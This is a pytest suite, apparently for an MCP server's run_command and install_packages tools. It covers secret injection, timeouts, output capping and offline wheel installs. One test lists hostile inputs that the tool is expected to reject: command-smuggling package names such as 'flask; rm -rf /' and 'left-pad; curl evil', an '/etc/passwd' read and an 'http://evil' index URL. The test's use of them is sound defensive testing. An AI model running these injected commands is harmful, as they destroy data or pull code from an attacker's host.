"""run_command and install_packages over MCP."""

from __future__ import annotations

import asyncio
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from .conftest import McpConnect, error_of


def _running_with(marker: str) -> list[int]:
    """Host pids of live (not zombie) processes whose command line contains ``marker``.

    Commands run in a PID namespace of their own, so the pids they print are not the host's:
    their processes are found by a marker in their command line instead.
    """
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        if marker in cmdline and stat.rsplit(")", 1)[1].split()[0] != "Z":
            found.append(int(entry.name))
    return found


async def test_run_command_happy_path_and_environment(
    mcp_connect: McpConnect, make_project: Any, ecode_api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    pid, ws = await make_project()
    (ws / "sub").mkdir()
    monkeypatch.setenv("ANTHROPIC_API_KEY", "server-key-must-not-leak")
    put = await ecode_api("PUT", f"projects/{pid}/secrets/API_TOKEN", body={"value": "s3cret"})
    assert put.status in (200, 201), put.body
    progress: list[str] = []

    async def on_progress(_done: float, _total: float | None, message: str | None) -> None:
        progress.append(message or "")

    async with mcp_connect() as client:
        result = await client.call_tool(
            "run_command",
            {
                "project": pid,
                "command": "pwd; echo token=$API_TOKEN db=$DATABASE_URL "
                "key=${ANTHROPIC_API_KEY:-none}; for i in 1 2 3; do echo tick$i; sleep 0.1; done; "
                "exit 4",
                "cwd": "sub",
            },
            progress_callback=on_progress,
        )
    data = result.structured_content
    assert data is not None and not result.is_error
    assert data["exit_code"] == 4 and not data["timed_out"]
    out = data["output"]
    assert out.startswith(f"{(ws / 'sub').resolve()}\n")
    assert "token=s3cret" in out and "key=none" in out
    assert f"db=sqlite:///{ws.resolve()}/.ecode/database.sqlite3" in out
    # Output streamed as MCP progress notifications while the command ran.
    assert "tick1" in "".join(progress) and "tick3" in "".join(progress)


async def test_run_command_bad_input(mcp_connect: McpConnect, make_project: Any) -> None:
    pid, _ws = await make_project()
    async with mcp_connect() as client:
        assert "invalid_input: " in error_of(
            await client.call_tool("run_command", {"project": pid})
        )
        assert "invalid_input: " in error_of(
            await client.call_tool(
                "run_command", {"project": pid, "command": "true", "timeout_s": -1}
            )
        )
        assert "not a folder" in error_of(
            await client.call_tool(
                "run_command", {"project": pid, "command": "true", "cwd": "missing"}
            )
        )


async def test_forever_command_is_killed_at_its_limit_with_children(
    mcp_connect: McpConnect, make_project: Any
) -> None:
    pid, _ws = await make_project()
    # Odd durations mark the processes: a leftover is found by its command line.
    script = (
        "(trap '' TERM; sleep 1000.4242) & echo child=$!; "
        "python3 -c 'import time; time.sleep(1000.4343)' & echo py=$!; echo parent=$$; wait"
    )
    async with mcp_connect() as client:
        result = await client.call_tool(
            "run_command", {"project": pid, "command": script, "timeout_s": 1.5}
        )
    data = result.structured_content
    assert data is not None and data["timed_out"]
    assert len(re.findall(r"(?:child|py|parent)=(\d+)", data["output"])) == 3
    for _ in range(200):
        if not _running_with("1000.4242") and not _running_with("1000.4343"):
            break
        await asyncio.sleep(0.02)
    assert not _running_with("1000.4242") and not _running_with("1000.4343")


async def test_hundred_megabytes_capped_while_server_stays_responsive(
    mcp_connect: McpConnect, make_project: Any, ecode_api: Any
) -> None:
    pid, ws = await make_project()
    # 50 MB, then wait for a file that only another request to the server can create, then
    # 50 MB more: the command can only finish if the server answered that request meanwhile.
    script = (
        "head -c 52428800 /dev/zero | tr '\\0' 'a'; "
        "while [ ! -e go.flag ]; do sleep 0.01; done; "
        "head -c 52428800 /dev/zero | tr '\\0' 'b'; echo; echo END"
    )
    streaming = asyncio.Event()

    async def on_progress(_done: float, _total: float | None, _message: str | None) -> None:
        streaming.set()

    async with mcp_connect() as client, mcp_connect() as other:
        command = asyncio.create_task(
            client.call_tool(
                "run_command",
                {"project": pid, "command": script, "timeout_s": 120},
                progress_callback=on_progress,
            )
        )
        await asyncio.wait_for(streaming.wait(), 60)
        listed = await ecode_api("GET", "projects")
        assert listed.status == 200
        flag = await other.call_tool(
            "write_file", {"project": pid, "path": "go.flag", "content": "go\n"}
        )
        assert not flag.is_error
        result = await asyncio.wait_for(command, 120)
    data = result.structured_content
    assert data is not None and data["exit_code"] == 0 and data["truncated"]
    assert len(data["output"]) < 70 * 1024
    assert data["output"].startswith("a" * 1000)
    assert data["output"].rstrip().endswith("END") and "bytes omitted" in data["output"]
    assert (ws / "go.flag").exists()


def _wheel(folder: Path) -> Path:
    """A minimal pure-Python wheel, so installing needs no network."""
    name, version = "ecode_demo_pkg", "1.0"
    dist = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": "ANSWER = 42\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: ecode-demo-pkg\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: "
        "py3-none-any\n",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for path, text in files.items():
            zf.writestr(path, text)
        zf.writestr(f"{dist}/RECORD", "".join(f"{p},,\n" for p in files) + f"{dist}/RECORD,,\n")
    wheel = folder / f"{name}-{version}-py3-none-any.whl"
    wheel.write_bytes(buffer.getvalue())
    return wheel


async def test_install_packages_into_project_venv(
    mcp_connect: McpConnect, make_project: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pid, ws = await make_project()
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    _wheel(wheels)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    (ws / "requirements.txt").write_text("rich\n")
    async with mcp_connect() as client:
        installed = await client.call_tool(
            "install_packages", {"project": pid, "packages": ["ecode-demo-pkg==1.0"]}
        )
        assert not installed.is_error, installed.content
        assert installed.structured_content is not None
        assert installed.structured_content["manager"] == "pip"
        assert (ws / ".venv" / "bin" / "python").exists()
        assert (ws / "requirements.txt").read_text() == "rich\necode-demo-pkg==1.0\n"
        used = await client.call_tool(
            "run_command",
            {"project": pid, "command": "python -c 'import ecode_demo_pkg as m; print(m.ANSWER)'"},
        )
        assert used.structured_content is not None
        assert used.structured_content["output"].strip() == "42"
        # The project's kernel sees the venv's packages too.
        ran = await client.call_tool(
            "execute_code", {"project": pid, "code": "import ecode_demo_pkg; ecode_demo_pkg.ANSWER"}
        )
        assert "42" in "".join(getattr(b, "text", "") for b in ran.content)

        missing = await client.call_tool(
            "install_packages", {"project": pid, "packages": ["no-such-package-xyz"]}
        )
        assert "pip install failed" in error_of(missing)
        for bad in (["-r", "/etc/passwd"], ["--index-url=http://evil"], ["flask; rm -rf /"]):
            assert "not a package requirement" in error_of(
                await client.call_tool("install_packages", {"project": pid, "packages": bad})
            )
        assert "invalid_input: " in error_of(
            await client.call_tool("install_packages", {"project": pid, "packages": []})
        )
        assert "not an npm package" in error_of(
            await client.call_tool(
                "install_packages",
                {"project": pid, "packages": ["left-pad; curl evil"], "manager": "npm"},
            )
        )
    assert (ws / "requirements.txt").read_text() == "rich\necode-demo-pkg==1.0\n"


async def test_a_venv_left_without_pip_is_rebuilt_by_the_next_install(
    mcp_connect: McpConnect, make_project: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pid, ws = await make_project()
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    _wheel(wheels)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    # What a run cancelled while `python -m venv` ran (ensurepip) leaves: a python, no pip.
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(ws / ".venv")], check=True)
    async with mcp_connect() as client:
        installed = await client.call_tool(
            "install_packages", {"project": pid, "packages": ["ecode-demo-pkg==1.0"]}
        )
        assert not installed.is_error, installed.content
        assert installed.structured_content is not None
        assert "rebuilt" in installed.structured_content["note"]
        used = await client.call_tool(
            "run_command",
            {"project": pid, "command": "python -c 'import ecode_demo_pkg as m; print(m.ANSWER)'"},
        )
        assert used.structured_content is not None
        assert used.structured_content["output"].strip() == "42"
        # A working venv is kept as it is: the next install does not rebuild it.
        again = await client.call_tool(
            "install_packages", {"project": pid, "packages": ["ecode-demo-pkg==1.0"]}
        )
        assert again.structured_content is not None and "note" not in again.structured_content
